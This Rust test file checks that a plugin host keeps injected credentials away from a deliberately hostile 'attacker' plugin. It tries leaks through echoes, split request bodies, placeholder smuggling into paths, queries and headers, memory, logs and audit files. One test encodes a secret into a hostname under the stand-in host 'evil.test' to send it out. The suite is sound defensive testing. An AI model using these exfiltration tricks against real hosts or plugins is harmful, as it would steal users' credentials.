//! Hostile row 22: a plugin against the secrets it may use but not have. Each credential is put in by the host, for
//! its audience alone, before a server that checks it; and no value comes back by any way, however it is spelled or
//! cut: not into the plugin's memory, not to the client, not into the log or the audit.
//! The servers are on loopback, with a certificate of the test's own.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod secrets_support;

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use kennel_tests::{Bystander, Client, Home, words};
use serde_json::{Value, json};

use secrets_support::{CANARY, Server, needles, no_canary, turned, verify_aws};

/// A secret that a host could be called.
const PLAIN: &str = "plain-canary-of-tests";

/// A home with the attacker, a TLS server it may reach (`GET` and `POST`), and what `secrets` says; `{port}` in it
/// is the server's.
fn home(name: &str, server: &Server, secrets: &str) -> (Home, Client) {
    let clear = Server::clear();
    home_with(name, server, &clear, secrets)
}

fn home_with(name: &str, server: &Server, clear: &Server, secrets: &str) -> (Home, Client) {
    let (home, client) =
        home_that_says("info,aws_sigv4=trace,hyper=trace,rustls=trace", name, server, clear, secrets);
    client.call("hello__hello", &json!({ "name": "first" }));
    (home, client)
}

fn home_that_says(log: &str, name: &str, server: &Server, clear: &Server, secrets: &str) -> (Home, Client) {
    let home = Home::new(name).env("CANARY", CANARY).env("PLAIN", PLAIN);
    let home = home.env("SSL_CERT_FILE", server.certificate().to_str().unwrap());
    let (port, clear) = (server.port, clear.port);
    let config = format!(
        r#"
[plugins.attacker.limits]
fuel = 200_000_000_000
[plugins.attacker.env]
TARGET = "https://127.0.0.1:{port}"
NAMED = "https://localhost:{port}"
CLEAR = "http://127.0.0.1:{clear}"
[[plugins.attacker.http]]
url = "https://127.0.0.1:{port}"
methods = ["GET", "POST"]
[[plugins.attacker.http]]
url = "https://localhost:{port}"
[[plugins.attacker.http]]
url = "http://127.0.0.1:{clear}"
"#
    );
    let secrets = secrets.replace("{port}", &port.to_string()).replace("{clear}", &clear.to_string());
    home.plugin("hello").hostile_as("attacker", "attacker").config(&(config + &secrets)).approve();
    let client = home.serve_with(&["--log", log]);
    client.initialize();
    (home, client)
}

fn ask(method: &str, scheme: &str, authority: &str, path: &str) -> Value {
    json!({ "method": method, "scheme": scheme, "authority": authority, "path": path })
}

fn get(server: &Server, path: &str) -> Value {
    ask("GET", "https", &server.authority(), path)
}

fn with(mut request: Value, key: &str, value: Value) -> Value {
    request[key] = value;
    request
}

/// What the plugin found, with nothing of the canary in what the client got.
#[track_caller]
fn hunt(client: &Client, requests: &[Value]) -> Value {
    hunt_for(client, requests, &[])
}

#[track_caller]
fn hunt_for(client: &Client, requests: &[Value], needles: &[Vec<u8>]) -> Value {
    let result = client.call("attacker__hunt", &json!({ "requests": requests, "needles": needles }));
    no_canary("the result", &result.to_string());
    assert_ne!(result["isError"], true, "{result}\n{}", client.stderr());
    result["structuredContent"].clone()
}

/// Sends a request that must be refused; the log says why.
#[track_caller]
fn refused(client: &Client, request: &Value, why: &str) {
    let said = hunt(client, std::slice::from_ref(request));
    let code = said["said"][0].as_str().unwrap();
    assert_eq!(code, "ErrorCode::HttpRequestDenied", "{request}: {said}\n{}", client.stderr());
    let until = Instant::now() + Duration::from_secs(20);
    let told = |line: &str| {
        line.contains("denied: an HTTP request of `attacker` was refused: ") && line.contains(why)
    };
    while !client.stderr().lines().any(told) {
        assert!(Instant::now() < until, "{request}: not {why:?} in\n{}", client.stderr());
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Nothing of the canary in anything that the host wrote.
#[track_caller]
fn nothing_is_left(home: &Home, client: &Client) {
    no_canary("the log", &client.stderr());
    for notification in client.notifications() {
        no_canary("a notification", &notification.to_string());
    }
    client.end_input();
    client.exit(Duration::from_secs(60)).expect("it ends");
    no_canary("the log", &client.stderr());
    let mut lines = 0;
    for entry in std::fs::read_dir(home.path().join("audit")).unwrap() {
        // Its key is there too, which is no text.
        let text = std::fs::read(entry.unwrap().path()).unwrap();
        let text = String::from_utf8_lossy(&text);
        lines += text.lines().count();
        no_canary("the audit", &text);
    }
    assert!(lines > 0, "no audit");
}

const BEARER: &str = r#"
[[plugins.attacker.secrets]]
name = "token"
from = "env:CANARY"
as = "bearer"
for = "https://127.0.0.1:{port}/v1"
"#;

const HEADER: &str = r#"
[[plugins.attacker.secrets]]
name = "token"
from = "env:CANARY"
as = "header"
header = "x-api-key"
for = "https://127.0.0.1:{port}/v1"
methods = ["GET"]
"#;

/// The canary: what echoes it, in every spelling and cut anywhere, gives the plugin asterisks.
#[test]
fn a_value_never_comes_back() {
    let server = Server::tls();
    let (home, client) = home("canary", &server, BEARER);
    let paths = ["/v1/echo", "/v1/spelled", "/v1/cut", "/v1/bytes", "/v1/redirect", "/v1/trailers"];
    let requests: Vec<_> = paths.iter().map(|path| get(&server, path)).collect();
    let found = Bystander::beside(&client, || hunt_for(&client, &requests, &needles()));
    for (index, path) in paths.iter().enumerate() {
        let status = found["said"][index].as_str().unwrap();
        assert!(matches!(status, "200" | "302"), "{path}: {found:.2000}");
        let came = turned(&found["turned"][index]);
        no_canary(path, &came);
        assert!(path.contains("trailers") || came.contains("****"), "{path}: {came}");
        assert!(came.contains("innocent text"), "{path}: {came}");
    }
    let carried = format!("Bearer {CANARY}");
    assert_eq!(server.seen().len(), paths.len());
    for seen in server.seen() {
        assert_eq!(seen.field("authorization"), Some(carried.as_str()), "{seen:?}");
        assert_eq!(seen.field("accept-encoding"), Some("identity"));
    }
    assert!(found["searched"].as_u64().unwrap() > 1 << 16);
    let counts: Vec<u64> = found["found"].as_array().unwrap().iter().map(|n| n.as_u64().unwrap()).collect();
    let (control, hits) = counts.split_last().unwrap();
    assert!(*control > 0, "the search finds nothing at all: {counts:?}");
    assert!(hits.iter().all(|hits| *hits == 0), "the value is in the plugin's memory: {counts:?}");
    // What another request stored comes back to one without a secret all the same.
    let found = hunt(&client, &[get(&server, "/stored")]);
    assert_eq!(found["said"][0], "200");
    let came = turned(&found["turned"][0]);
    no_canary("/stored", &came);
    assert!(came.contains("innocent text") && came.contains("****"), "{came}");
    nothing_is_left(&home, &client);
}

/// What must not hold the canary in any spelling, all files below a folder.
fn files_hold_nothing(folder: &Path) -> usize {
    let mut searched = 0;
    for entry in std::fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            searched += files_hold_nothing(&path);
        } else if path.is_file() {
            let bytes = std::fs::read(&path).unwrap();
            no_canary(&path.display().to_string(), &String::from_utf8_lossy(&bytes));
            searched += 1;
        }
    }
    searched
}

/// The whole of it: secrets that were used, refused and missed, while the host logs all it can. Nothing is in what the
/// client got, in the log, in any file of the home, in what any verb says, or in the memory of the plugin, of this call
/// and of the next.
#[test]
fn the_canary_is_nowhere() {
    let (server, clear) = (Server::tls(), Server::clear());
    let secrets = format!("{BEARER}{}", HEADER.replace("\"token\"", "\"other\"").replace("/v1", "/h"));
    let (home, client) = home_that_says("trace", "nowhere", &server, &clear, &secrets);
    let key = json!([["x-api-key", "{{secret:other}}"]]);
    let requests = [
        get(&server, "/v1/echo"),
        get(&server, "/v1/spelled"),
        with(get(&server, "/h/echo"), "headers", key.clone()),
        // Refused: for others, misplaced, not to be looked into.
        with(get(&server, "/v1/echo"), "headers", key.clone()),
        get(&server, "/v1/x?{{secret:token}}"),
        get(&server, "/v1/gzip"),
        // Fails.
        ask("GET", "https", &clear.authority(), "/v1/echo"),
    ];
    let found = hunt_for(&client, &requests, &needles());
    let said: Vec<_> = found["said"].as_array().unwrap().iter().map(|said| said.as_str().unwrap()).collect();
    assert_eq!(said[..3], ["200", "200", "200"], "{found:.2000}");
    assert!(said[3..].iter().all(|said| said.starts_with("ErrorCode::")), "{said:?}");
    assert!(server.seen().iter().filter(|seen| format!("{seen:?}").contains("canary")).count() >= 3);
    let counts = |found: &Value| -> Vec<u64> {
        assert!(found["searched"].as_u64().unwrap() > 1 << 16);
        found["found"].as_array().unwrap().iter().map(|n| n.as_u64().unwrap()).collect()
    };
    let (this, next) = (counts(&found), counts(&hunt_for(&client, &[], &needles())));
    let (control, hits) = this.split_last().unwrap();
    assert!(*control > 0 && hits.iter().all(|hits| *hits == 0), "in this call's memory: {this:?}");
    assert!(next.iter().all(|hits| *hits == 0), "in the next call's memory: {next:?}");
    for method in ["tools/list", "prompts/list", "resources/list", "resources/templates/list"] {
        no_canary(method, &format!("{:?}", client.request(method, Value::Null)));
    }
    let refused =
        client.request("tools/call", Client::call_params("attacker__hunt", &json!({ "needles": 3 })));
    no_canary("an error", &format!("{refused:?}"));
    nothing_is_left(&home, &client);
    let log = client.stderr();
    assert!(log.contains("TRACE") && log.contains("DEBUG"), "it did not say all: {log:.2000}");
    for verb in [
        &["--log", "trace", "grants"][..],
        &["list"],
        &["check"],
        &["inspect", "attacker"],
        &["plan"],
        &["approve"],
        &["explain", "attacker", "secret", "token", "GET", &format!("https://{}/v1", server.authority())],
        &["audit", "show", "--format", "json"],
        &["--log", "trace", "call", "attacker", "tell", "{\"variable\": \"CANARY\", \"way\": \"result\"}"],
        &["revoke", "attacker", "--secret", "token"],
    ] {
        no_canary(&verb.join(" "), &home.kennel(verb).to_string());
    }
    assert!(files_hold_nothing(&home.path()) > 5);
}

/// A plugin that has a value could call a host so, and what was denied is written down.
#[test]
fn a_value_in_the_name_of_a_host_is_not_in_the_audit() {
    let server = Server::tls();
    let secrets =
        "\n[[plugins.attacker.secrets]]\nname = \"PASSWORD\"\nfrom = \"env:PLAIN\"\nexpose = true\n";
    let (home, client) = home("host-name", &server, secrets);
    let host = format!("{PLAIN}.evil.test");
    client.call("attacker__lookup", &json!({ "name": host }));
    client.call("attacker__dial", &json!({ "to": format!("{host}:1") }));
    hunt(&client, &[ask("GET", "https", &host, "/")]);
    nothing_is_left(&home, &client);
    let lines = home.audit();
    let denied: Vec<_> =
        lines.iter().filter(|line| line["denied"].is_array()).map(Value::to_string).collect();
    assert!(!client.stderr().contains(PLAIN), "{}", client.stderr());
    let with_name = denied.iter().filter(|line| line.contains("[secret PASSWORD].evil.test")).count();
    assert!(with_name == 3 && !denied.concat().contains(PLAIN), "{denied:#?}");
}

/// Answers in which nothing could be found are not given, and pieces are not asked for.
#[test]
fn coded_answers_and_ranges_are_refused() {
    let server = Server::tls();
    let (home, client) = home("coded", &server, BEARER);
    for path in ["/v1/gzip", "/v1/transfer", "/gzip"] {
        refused(&client, &get(&server, path), &format!("{path}: the answer is coded as `gzip"));
    }
    let range = with(get(&server, "/v1/echo"), "headers", json!([["range", "bytes=0-4"]]));
    refused(&client, &range, "asks for a range of the answer, which could give the secret `token`");
    let own = with(get(&server, "/v1/echo"), "headers", json!([["authorization", "Bearer mine"]]));
    refused(&client, &own, "sets the header authorization itself");
    nothing_is_left(&home, &client);
}

/// The placeholder is filled in its own slot, and refused everywhere else; nothing of it leaves.
#[test]
fn a_placeholder_goes_into_its_slot_only() {
    let (server, clear) = (Server::tls(), Server::clear());
    let (home, client) = home_with("slot", &server, &clear, HEADER);
    let key = |name: &str| json!([[name, "{{secret:token}}"]]);
    let at = server.authority();
    let in_slot = |request: Value| with(request, "headers", key("x-api-key"));
    let pieces =
        |method: &str, pieces: &[&str]| with(ask(method, "https", &at, "/v1/x"), "pieces", json!(pieces));
    let localhost = format!("localhost:{}", server.port);
    let long = "x".repeat(3000);
    for (request, why) in [
        (in_slot(ask("GET", "https", &localhost, "/v1/x")), "is for GET"),
        (in_slot(ask("GET", "http", &clear.authority(), "/v1/x")), "is for GET"),
        (in_slot(ask("POST", "https", &at, "/v1/x")), "is for GET"),
        (in_slot(ask("GET", "https", &at, "/v2/x")), "is for GET"),
        (in_slot(ask("GET", "https", &at, "/v10")), "is for GET"),
        (ask("GET", "https", &at, "/v1/{{secret:token}}"), "written in the path"),
        (ask("GET", "https", &at, "/v1/%7B%7Bsecret:token%7D%7D"), "written in the path"),
        (ask("GET", "https", &at, "/v1/x?key={{secret:token}}"), "written in the query"),
        (ask("GET", "https", &at, "/v1/x?{{secret:token}}"), "written in the query"),
        (with(ask("GET", "https", &at, "/v1/x"), "headers", key("x-other")), "written in the header x-other"),
        (
            with(
                ask("GET", "https", &at, "/v1/x"),
                "headers",
                json!([["authorization", "Bearer {{secret:token}}"]]),
            ),
            "written in the header authorization",
        ),
        (
            with(ask("GET", "https", &at, "/v1/x"), "headers", json!([["x-api-key", "{{secret:other}}"]])),
            "holds no secret `other`",
        ),
        (
            with(ask("GET", "https", &at, "/v1/x"), "headers", json!([["x-api-key", "{{secret:"]])),
            "holds no secret",
        ),
        (pieces("POST", &["a={{secret:token}}"]), "written in the body"),
        (pieces("POST", &[&long, "{{sec", "ret:to", "ken}}", &long]), "written in the body"),
    ] {
        refused(&client, &request, why);
    }
    for seen in server.seen().iter().chain(&clear.seen()) {
        let text = format!("{seen:?}");
        no_canary("a request", &text);
        assert!(!text.contains("secret:token"), "{text}");
        // Only one whose body was cut short can have got so far.
        assert_eq!(seen.method, "POST", "{text}");
    }
    let before = server.seen().len();
    let found = hunt(
        &client,
        &[
            in_slot(get(&server, "/v1/echo")),
            with(get(&server, "/v1/echo"), "headers", json!([["x-api-key", "Token {{secret:token}};v=1"]])),
            get(&server, "/v1/echo"),
        ],
    );
    assert_eq!(found["said"], json!(["200", "200", "200"]), "{}", client.stderr());
    let seen: Vec<_> = server.seen().split_off(before);
    assert_eq!(seen[0].field("x-api-key"), Some(CANARY));
    assert_eq!(seen[1].field("x-api-key"), Some(format!("Token {CANARY};v=1").as_str()));
    assert_eq!(seen[2].field("x-api-key"), None);
    nothing_is_left(&home, &client);
}

/// Row 22 for a plugin without secrets: a placeholder is no literal text to its server.
#[test]
fn without_a_secret_a_placeholder_is_refused() {
    let server = Server::tls();
    let (_home, client) = home("none", &server, "");
    for request in [
        with(get(&server, "/v1"), "headers", json!([["x-api-key", "{{secret:token}}"]])),
        get(&server, "/v1?key=%7b%7bsecret:token}}"),
    ] {
        refused(&client, &request, "it holds no secret `token`; ask the user to grant it in kennel.toml");
    }
    assert!(server.seen().is_empty());
}

#[test]
fn basic_and_query_are_put_in() {
    let server = Server::tls();
    let (home, client) = home(
        "basic",
        &server,
        r#"
[[plugins.attacker.secrets]]
name = "token"
from = "env:CANARY"
as = "basic"
user = "ada"
for = "https://127.0.0.1:{port}/basic"
[[plugins.attacker.secrets]]
name = "other"
from = "env:CANARY"
as = "query"
key = "api key"
for = "https://127.0.0.1:{port}/query"
"#,
    );
    let written = STANDARD.encode("ada:{{secret:token}}");
    let found = hunt(
        &client,
        &[
            get(&server, "/basic/echo"),
            with(
                get(&server, "/basic/echo"),
                "headers",
                json!([["authorization", format!("Basic {written}")]]),
            ),
            get(&server, "/query/echo?a=1"),
            get(&server, "/query/echo?api+key=%7B%7Bsecret%3Aother%7D%7D&b=2"),
            get(&server, "/neither/echo"),
        ],
    );
    assert_eq!(found["said"], json!(["200", "200", "200", "200", "200"]), "{}", client.stderr());
    for came in found["turned"].as_array().unwrap() {
        no_canary("an answer", &turned(came));
    }
    let seen = server.seen();
    let basic = format!("Basic {}", STANDARD.encode(format!("ada:{CANARY}")));
    assert_eq!(seen[0].field("authorization"), Some(basic.as_str()));
    assert_eq!(seen[1].field("authorization"), Some(basic.as_str()));
    assert_eq!(seen[2].query(), [("a", "1"), ("api key", CANARY)].map(|(k, v)| (k.into(), v.into())));
    assert_eq!(seen[3].query(), [("api key", CANARY), ("b", "2")].map(|(k, v)| (k.into(), v.into())));
    no_canary("a request", &format!("{:?}", seen[4]));
    for (request, why) in [
        (get(&server, "/query/echo?api%20key=mine"), "sets \"api key\" in the query itself"),
        (
            with(
                get(&server, "/basic/echo"),
                "headers",
                json!([["authorization", format!("Basic {}", STANDARD.encode("eve:{{secret:token}}"))]]),
            ),
            "written in the header authorization",
        ),
    ] {
        refused(&client, &request, why);
    }
    nothing_is_left(&home, &client);
}

/// The refresh token goes to the token endpoint alone; the access token is got once, is no more the plugin's than
/// the other, and is got anew when it is refused.
#[test]
fn access_tokens_are_got_and_kept_by_the_host() {
    let server = Server::tls();
    let (home, client) = home(
        "oauth",
        &server,
        r#"
[[plugins.attacker.secrets]]
name = "token"
from = "env:CANARY"
as = "oauth-refresh"
token-url = "https://127.0.0.1:{port}/token"
client-id = "kennel tests"
for = "https://127.0.0.1:{port}/v1"
"#,
    );
    let requests: Vec<_> =
        ["/v1/echo", "/v1/echo", "/v1/expired", "/v1/echo"].map(|path| get(&server, path)).into();
    let found = hunt(&client, &requests);
    assert_eq!(found["said"], json!(["200", "200", "401", "200"]), "{}", client.stderr());
    let seen = server.seen();
    let tokens: Vec<_> = seen.iter().filter(|seen| seen.target == "/token").collect();
    assert_eq!(tokens.len(), 2, "{seen:?}");
    assert!(
        tokens[0].body.contains("grant_type=refresh_token")
            && tokens[0].body.contains("client_id=kennel+tests")
    );
    assert_eq!(tokens[0].form("refresh_token").as_deref(), Some(CANARY));
    // It was replaced with the first answer.
    assert_eq!(tokens[1].form("refresh_token").as_deref(), Some("refresh-token-of-tests-1"));
    let carried: Vec<_> = seen.iter().filter_map(|seen| seen.field("authorization")).collect();
    assert_eq!(carried, [1, 1, 1, 2].map(|n| format!("Bearer access-token-of-tests-{n}")));
    let all = format!("{found}{}", client.stderr());
    for came in found["turned"].as_array().unwrap() {
        let came = turned(came);
        no_canary("an answer", &came);
        assert!(!came.contains("access-token-of-tests"), "{came}");
    }
    assert!(!all.contains("access-token-of-tests") && !all.contains("refresh-token-of-tests"), "{all}");
    nothing_is_left(&home, &client);
}

/// Signed, and found right by a server that computes the signature itself.
#[test]
fn requests_are_signed_for_aws() {
    let server = Server::tls();
    let (home, client) = home(
        "aws",
        &server,
        r#"
[[plugins.attacker.secrets]]
name = "token"
from = "env:CANARY"
as = "aws-sigv4"
access-key-id = "AKIDTESTS"
region = "eu-central-1"
service = "execute-api"
for = "https://127.0.0.1:{port}/v1"
"#,
    );
    let post =
        with(ask("POST", "https", &server.authority(), "/v1/echo"), "pieces", json!(["{\"a\":", "1}"]));
    let found = hunt(&client, &[get(&server, "/v1/echo?b=2&a=1%20x"), post]);
    assert_eq!(found["said"], json!(["200", "200"]), "{}", client.stderr());
    let seen = server.seen();
    assert_eq!(seen[1].body, "{\"a\":1}");
    for seen in &seen {
        verify_aws(seen, &server.authority(), "AKIDTESTS", CANARY, "eu-central-1", "execute-api");
    }
    let log = client.stderr();
    assert!(
        log.contains("attacker") && !log.contains("AWS4-HMAC-SHA256"),
        "what is signed is in the log: {log}"
    );
    let own = with(get(&server, "/v1/echo"), "headers", json!([["x-amz-date", "20150830T123600Z"]]));
    refused(&client, &own, "sets the header x-amz-date itself");
    nothing_is_left(&home, &client);
}

/// A plugin that is given the value cannot give it away by mistake, by any way out.
#[test]
fn an_exposed_value_is_scrubbed_from_every_way_out() {
    let server = Server::tls();
    let secrets =
        "\n[[plugins.attacker.secrets]]\nname = \"PASSWORD\"\nfrom = \"env:CANARY\"\nexpose = true\n";
    let (home, client) = home("exposed", &server, secrets);
    let length = client.call("attacker__tell", &json!({ "variable": "PASSWORD", "way": "print" }));
    assert!(words(&length).contains("printed"), "{length}");
    for way in ["result", "structured", "error", "panic", "log", "print", "progress", "hex", "escaped"] {
        let mut params =
            Client::call_params("attacker__tell", &json!({ "variable": "PASSWORD", "way": way }));
        params["_meta"] = json!({ "progressToken": "p" });
        let reply = client.request("tools/call", params).unwrap();
        no_canary(way, &reply.to_string());
        if !matches!(way, "log" | "print" | "progress") {
            assert!(reply.to_string().contains("[secret PASSWORD]"), "{way}: {reply}");
        }
        if matches!(way, "result" | "structured") {
            assert_eq!(reply["structuredContent"]["length"], CANARY.len(), "it was not given the value");
        }
    }
    assert!(client.stderr().contains("[secret PASSWORD]"), "{}", client.stderr());
    let listed = home.kennel(["list"]).stdout + &home.kennel(["check", "attacker"]).stdout;
    no_canary("the listing", &listed);
    assert!(listed.contains("EXPOSED"), "{listed}");
    nothing_is_left(&home, &client);
}

/// A value that cannot be had keeps the plugin from running, and says what to do; once it is there, it runs. A new
/// value is taken at the next reload.
#[test]
fn values_are_read_before_the_plugin_runs() {
    let server = Server::tls();
    let (home, client) = home("sources", &server, "");
    let file = home.folder("keys").join("token");
    let config = std::fs::read_to_string(home.path().join("kennel.toml")).unwrap();
    let with_source = |from: &str| {
        let secret = HEADER.replace("{port}", &server.port.to_string()).replace("env:CANARY", from);
        home.config(&format!("{config}{secret}"));
    };
    let log_has = |text: &str| {
        let until = Instant::now() + Duration::from_secs(60);
        while !client.stderr().contains(text) {
            assert!(Instant::now() < until, "no {text:?} in\n{}", client.stderr());
            std::thread::sleep(Duration::from_millis(50));
        }
    };
    with_source("env:NOT_SET_ANYWHERE");
    log_has("the environment variable NOT_SET_ANYWHERE is not set where Kennel was started");
    with_source("keyring:kennel-tests/ada");
    log_has("secret-tool");
    with_source(&format!("file:{}", file.display()));
    log_has("write the value there, readable by you alone");
    std::fs::write(&file, CANARY).unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    with_source(&format!("file:{}", file.display()));
    log_has("others may use it; run `chmod 600");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::write(&file, "guess-7").unwrap();
    with_source(&format!("file:{}", file.display()));
    log_has("fewer than 8 bytes, which is too short to be kept secret");
    let call = || {
        let request = with(get(&server, "/v1/echo"), "headers", json!([["x-api-key", "{{secret:token}}"]]));
        let _ = client.request(
            "tools/call",
            Client::call_params("attacker__hunt", &json!({ "requests": [request], "needles": [] })),
        );
        server.seen().last().and_then(|seen| seen.field("x-api-key").map(str::to_owned))
    };
    for value in [CANARY, "another-value-of-the-secret"] {
        std::fs::write(&file, value).unwrap();
        // As an editor does that saves the same text.
        with_source(&format!("file:{}", file.display()));
        let until = Instant::now() + Duration::from_secs(60);
        while call().as_deref() != Some(value) {
            assert!(Instant::now() < until, "not {value:?}: {:?}\n{}", call(), client.stderr());
            std::thread::sleep(Duration::from_millis(50));
        }
    }
    nothing_is_left(&home, &client);
}

/// The keyring is asked by the system's own program.
#[test]
fn the_keyring_gives_a_value() {
    let server = Server::tls();
    let (home, client) = home("keyring", &server, "");
    drop(client);
    let tool = home.folder("bin").join("secret-tool");
    let script = format!(
        "#!/bin/sh\n[ \"$*\" = 'lookup service kennel-tests username ada' ] && printf '%s' '{CANARY}'\n"
    );
    std::fs::write(&tool, script).unwrap();
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", tool.parent().unwrap().display(), std::env::var("PATH").unwrap());
    let secret =
        HEADER.replace("{port}", &server.port.to_string()).replace("env:CANARY", "keyring:kennel-tests/ada");
    let config = std::fs::read_to_string(home.path().join("kennel.toml")).unwrap();
    home.config(&format!("{config}{secret}"));
    let home = home.env("PATH", &path);
    let client = home.serve();
    client.initialize();
    let request = with(get(&server, "/v1/echo"), "headers", json!([["x-api-key", "{{secret:token}}"]]));
    hunt(&client, &[request]);
    assert_eq!(server.seen()[0].field("x-api-key"), Some(CANARY), "{}", client.stderr());
    nothing_is_left(&home, &client);
}

/// What cannot hold is said when the file is read, with what to write instead.
#[test]
fn faults_in_the_file() {
    let home = Home::new("secret-faults");
    home.plugin("hello");
    let keys = home.folder("keys");
    std::fs::write(keys.join("token"), "x").unwrap();
    let base = format!(
        "[[plugins.hello.http]]\nurl = \"https://a.test/v1\"\n[[plugins.hello.http]]\nurl = \"http://a.test\"\n\
         [[plugins.hello.http]]\nurl = \"http://127.0.0.1:9\"\n[plugins.hello.env]\nTAKEN = \"x\"\n\
         [[plugins.other.directories]]\npath = \"{}\"\n",
        keys.display()
    );
    let secret = |text: &str| format!("{base}[[plugins.hello.secrets]]\n{}\n", text.replace("; ", "\n"));
    let good = "name = \"t\"; from = \"env:T\"";
    let mut said = Vec::new();
    for text in [
        "from = \"env:T\"; as = \"bearer\"; for = \"https://a.test/v1\"",
        "name = \"a b\"; from = \"env:T\"; as = \"bearer\"; for = \"https://a.test/v1\"",
        "name = \"t\"; from = \"ghp_averyrealtoken\"; as = \"bearer\"; for = \"https://a.test/v1\"",
        "name = \"t\"; from = \"keyring:x\"; as = \"bearer\"; for = \"https://a.test/v1\"",
        &format!("{good}; for = \"https://a.test/v1\""),
        &format!("{good}; as = \"cookie\"; for = \"https://a.test/v1\""),
        &format!("{good}; as = \"bearer\""),
        &format!("{good}; as = \"bearer\"; for = \"https://a.test/v2\""),
        &format!("{good}; as = \"bearer\"; for = \"https://b.test\""),
        &format!("{good}; as = \"bearer\"; for = \"https://a.test/v1\"; methods = [\"POST\"]"),
        &format!("{good}; as = \"bearer\"; for = \"http://a.test\"; http = true"),
        &format!("{good}; as = \"bearer\"; for = \"http://127.0.0.1:9\""),
        &format!("{good}; as = \"header\"; for = \"https://a.test/v1\""),
        &format!("{good}; as = \"header\"; header = \"Authorization\"; for = \"https://a.test/v1\""),
        &format!("{good}; as = \"header\"; header = \"host\"; for = \"https://a.test/v1\""),
        &format!("{good}; as = \"basic\"; user = \"a:b\"; for = \"https://a.test/v1\""),
        &format!("{good}; as = \"bearer\"; user = \"ada\"; for = \"https://a.test/v1\""),
        &format!(
            "{good}; as = \"oauth-refresh\"; client-id = \"x\"; token-url = \"http://a.test\"; for = \"https://a.test/v1\""
        ),
        &format!("{good}; as = \"aws-sigv4\"; for = \"https://a.test/v1\""),
        "name = \"TAKEN\"; from = \"env:T\"; expose = true",
        "name = \"a-b\"; from = \"env:T\"; expose = true",
        "name = \"T\"; from = \"env:T\"; expose = true; as = \"bearer\"",
        &format!(
            "name = \"t\"; from = \"file:{}/token\"; as = \"bearer\"; for = \"https://a.test/v1\"",
            keys.display()
        ),
        &format!(
            "{good}; as = \"bearer\"; for = \"https://a.test/v1\"; [[plugins.hello.secrets]]; name = \"u\"; from = \"env:U\"; \
             as = \"basic\"; user = \"x\"; for = \"https://a.test/v1/x\""
        ),
    ] {
        home.config(&secret(text));
        let run = home.kennel(["list"]);
        run.failure();
        assert!(!run.stderr.contains("averyrealtoken"), "{}", run.stderr);
        let root = home.path().parent().unwrap().to_str().unwrap().to_owned();
        said.push(run.stderr.replace(&root, "…").trim().to_owned());
    }
    insta::assert_snapshot!(said.join("\n"));
}
